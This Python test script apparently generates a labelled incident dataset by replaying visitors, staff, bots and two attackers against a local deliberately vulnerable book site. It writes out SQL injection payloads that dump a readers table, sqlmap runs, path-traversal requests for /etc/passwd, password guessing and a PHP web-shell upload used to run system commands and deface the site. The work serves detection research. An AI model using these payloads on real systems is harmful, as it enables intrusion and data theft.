"""Makes the incident `books`: a Python server with a JSON log; visitors, staff, bots, two attackers, one successful.

    python tests/incidents/books.py FOLDER [--sqlmap PATH]

Real requests to a real server on loopback. With sqlmap at hand it does the injecting; without it a short list of its
kind of statements does. Writes logs/, labels/ and ground_truth.json.
"""

import argparse
import json
import random
import subprocess
import tempfile
import time
from datetime import UTC, datetime
from pathlib import Path

import lab
from books_site import BEGIN, BROWSERS, Client, Site, serve

DAY = 86_400
ROLES = {
    "visitors": "benign",
    "staff": "benign",
    "crawler": "benign",
    "monitor": "benign",
    "noise": "attacker",
    "failing": "attacker",
    "intruder": "attacker",
}
WORDS = [
    a + b
    for a in ("admin", "old", "test", "backup", "db", "config", "api", "user", "private", "tmp", "dev", "stage")
    for b in ("", "/", ".php", ".bak", ".zip", "2", ".old", "_1", ".txt", ".sql", ".json", ".tar")
]


def main():
    """The command."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("folder", type=Path)
    parser.add_argument("--sqlmap")
    parser.add_argument("--seed", type=int, default=5)
    made = parser.parse_args()
    site = Site()
    server, port = serve(site)
    phases = play(site, Client(port), random.Random(made.seed), made.sqlmap, port)
    server.shutdown()
    write(site, phases, made.folder)


def play(site, client, draw, sqlmap, port):
    """All that happens, actor by actor; gives the phases."""
    _everybody(site, client, draw)
    phases = []

    def phase(actor, name, kind, outcome, **result):
        site.actor, site.phase = actor, name
        phases.append(
            {
                "id": name,
                "actor": actor,
                "scored": kind is not None,
                "episode": kind,
                "outcome": outcome,
                "result": result,
            }
        )

    bad, evil = "203.0.113.66", "198.51.100.99"
    phase("failing", "names", "discovery", "failed")
    for at, word in enumerate(WORDS * 2):
        client.ask(DAY + at * 0.05, bad, f"/{word}", agent="ffuf/2.1")
    phase("failing", "find", "exploitation", "failed")
    _inject(site, client, bad, DAY + 4000, f"http://127.0.0.1:{port}/find?q=sea", sqlmap, [])
    phase("failing", "guess-root", "credential guessing", "failed")
    for at in range(60):
        client.ask(
            DAY + 9000 + at, bad, "/login", agent="Mozilla/5.0 (Hydra)", form={"user": "root", "password": f"p{at}"}
        )
    phase("intruder", "prove", "exploitation", "succeeded")
    _inject(site, client, evil, 2 * DAY, f"http://127.0.0.1:{port}/book?id=4", sqlmap, ["--banner"])
    phase("intruder", "dump", "exfiltration", "succeeded", rows_taken={"readers": 90})
    _inject(
        site, client, evil, 2 * DAY + 7000, f"http://127.0.0.1:{port}/book?id=4", sqlmap, ["-T", "readers", "--dump"]
    )
    phase("intruder", "files", "exploitation", "succeeded")
    for at, name in enumerate(("terms.txt", "../nothing", "../app.py", "../../../../etc/passwd", "../settings.ini")):
        client.ask(2 * DAY + 20_000 + at * 90, evil, f"/read?name={name}")
    phase("intruder", "guess", "credential guessing", "succeeded")
    start = 2 * DAY + 40_000
    for at in range(80):
        client.ask(
            start + at,
            evil,
            "/login",
            agent="Mozilla/5.0 (Hydra)",
            form={"user": "mia", "password": "moonlight7" if at == 77 else f"p{at}"},
        )
    phase("intruder", "upload", "upload", "succeeded")
    start += 9000
    client.ask(start, evil, "/login", form={"user": "mia", "password": "moonlight7"})
    client.ask(start + 2, evil, "/desk", cookie="s=1")
    client.ask(start + 9, evil, "/desk/cover", form={"name": "k.php"}, cookie="s=1")
    phase("intruder", "shell", "shell use", "succeeded")
    for at, word in enumerate(("id", "whoami", "uname -a", "ls -la", "cat /etc/passwd", "ps aux", "netstat -tlnp")):
        client.ask(start + 600 + at * 20, evil, "/covers/k.php?" + f"x={word.replace(' ', '+')}")
    phase("intruder", "front", "defacement", "succeeded")
    client.ask(start + 3000, evil, "/covers/k.php", form={"x": "write"})
    site.front = "<h1>owned</h1>"
    client.ask(start + 3001, evil, "/")
    site.actor, site.phase = "visitors", "browse"
    for at in range(40):
        client.ask(start + 3600 + at * 900, f"192.0.2.{at % 60 + 1}", "/", agent=BROWSERS[at % 3])
    return phases


def _everybody(site, client, draw):
    for visit in range(220):
        address, agent, at = f"192.0.2.{visit % 230 + 1}", draw.choice(BROWSERS), draw.uniform(0, 2.9 * DAY)
        led = draw.choice((None, "https://search.example/"))
        if at > 2 * DAY + 51_000:
            at -= DAY
        for step in range(draw.randint(1, 5)):
            page = draw.choice(
                (
                    "/",
                    f"/book?id={draw.randint(1, 45)}",
                    f"/find?q={draw.choice(('sea', 'o%27brien', 'war+and+peace'))}",
                    "/read?name=terms.txt",
                )
            )
            client.ask(at, address, page, agent=agent, referrer=led)
            if not step:
                client.ask(at + 0.2, address, "/app.css", agent=agent, referrer="/")
                client.ask(at + 0.3, address, "/app.js", agent=agent, referrer="/")
            led, at = page, at + draw.uniform(5, 90)
    site.actor, site.phase = "staff", "work"
    for day in range(3):
        at = day * DAY + 30_000
        client.ask(at, "192.0.2.250", "/login", agent=BROWSERS[0])
        client.ask(
            at + 9,
            "192.0.2.250",
            "/login",
            agent=BROWSERS[0],
            form={"user": "mia", "password": "moonlight7"},
            referrer="/login",
        )
        for step in range(6):
            client.ask(at + 20 + step * 50, "192.0.2.250", "/desk", agent=BROWSERS[0], cookie="s=1", referrer="/desk")
            client.ask(
                at + 40 + step * 50,
                "192.0.2.250",
                "/desk/cover",
                agent=BROWSERS[0],
                form={"name": f"{day}{step}.jpg"},
                cookie="s=1",
                referrer="/desk",
            )
    site.actor, site.phase = "monitor", "watch"
    for at in range(0, 2 * DAY + 50_000, 1800):
        client.ask(at, "192.0.2.251", "/", agent="UptimeWatch/2.0")
    site.actor, site.phase = "crawler", "crawl"
    for at in range(90):
        client.ask(
            at * 2000,
            "192.0.2.252",
            f"/book?id={at % 40 + 1}",
            agent="Mozilla/5.0 (compatible; FindBot/1.0; +https://find.example/)",
        )
    site.actor, site.phase = "noise", "noise"
    for bot in range(6):
        at = draw.uniform(0, 2.5 * DAY)
        for path in draw.sample(
            (
                "/.env",
                "/.git/config",
                "/wp-login.php",
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                "/boaform/admin/formLogin",
                "/actuator/env",
            ),
            4,
        ):
            at += 2
            client.ask(at, f"203.0.113.{bot + 1}", path, agent="python-requests/2.31")


def _inject(site, client, address, second, url, sqlmap, more):
    if sqlmap:
        site.offset, site.started = second, time.monotonic()
        headers = f"X-Lab-Client: {address}\nX-Lab-Time: run"
        with tempfile.TemporaryDirectory() as folder:
            subprocess.run(
                [
                    sqlmap,
                    "-u",
                    url,
                    "--batch",
                    "--flush-session",
                    "--disable-coloring",
                    f"--output-dir={folder}",
                    "--technique=BEU",
                    "--dbms=sqlite",
                    f"--headers={headers}",
                    *more,
                ],
                check=False,
                capture_output=True,
                timeout=300,
            )
        return
    target = url.split("/", 3)[3]
    for at, value in enumerate(_statements(dump="--dump" in more)):
        client.ask(
            second + at * 0.4,
            address,
            f"/{target}{value.replace(' ', '%20')}",
            agent="sqlmap/1.9#stable (https://sqlmap.org)",
        )


def _statements(*, dump):
    yield from ("'", ")", " AND 11=11", " AND 11=12", " AND 5=5", " AND 5=6", " AND 7=7", " AND 7=1")
    for columns in range(1, 9):
        yield f" UNION ALL SELECT {','.join(['NULL'] * columns)}-- -"
    if dump:
        yield " UNION ALL SELECT NULL,sql,NULL FROM sqlite_master-- -"
        yield " UNION ALL SELECT NULL,json_group_array(id||'-'||name||'-'||mail),NULL FROM readers-- -"


def write(site, phases, folder):
    """The incident's files."""
    for part in ("logs", "labels"):
        (folder / part).mkdir(parents=True, exist_ok=True)
    lines = sorted(site.lines)
    lab.gz(folder / "logs" / "access.log.gz", [line for _, _, line, _, _ in lines])
    labels = ["line\tclass\tactor\tphase\ttime_utc"]
    actors = {
        name: {"role": role, "addresses": [], "note": "background" if name == "noise" else ""}
        for name, role in ROLES.items()
    }
    for number, (_, _, line, actor, phase) in enumerate(lines, 1):
        labels.append(f"{number}\t{'attack' if ROLES[actor] == 'attacker' else 'benign'}\t{actor}\t{phase}\t")
        address = json.loads(line)["request"]["client_ip"]
        if address not in actors[actor]["addresses"]:
            actors[actor]["addresses"].append(address)
    lab.gz(folder / "labels" / "access.log.tsv.gz", labels)
    for one in phases:
        times = [ts for ts, _, _, actor, phase in lines if (actor, phase) == (one["actor"], one["id"])]
        one["begin_utc"], one["end_utc"] = (
            datetime.fromtimestamp(ts, UTC).strftime("%Y-%m-%dT%H:%M:%SZ") for ts in (min(times), max(times))
        )
        one["requests"] = len(times)
    truth = {
        "incident": "books",
        "begin_utc_epoch": BEGIN,
        "actors": actors,
        "phases": phases,
        "logs": {"access.log": {"labels": "labels/access.log.tsv.gz", "lines": len(lines)}},
        "entry_points": [
            {"actor": "intruder", "weakness": "SQL injection", "target": "/book", "parameter": "id"},
            {"actor": "intruder", "weakness": "path traversal", "target": "/read", "parameter": "name"},
            {
                "actor": "intruder",
                "weakness": "weak password, then unrestricted upload",
                "target": "/login",
                "parameter": None,
            },
        ],
    }
    (folder / "ground_truth.json").write_text(json.dumps(truth, indent=1) + "\n")


if __name__ == "__main__":
    main()
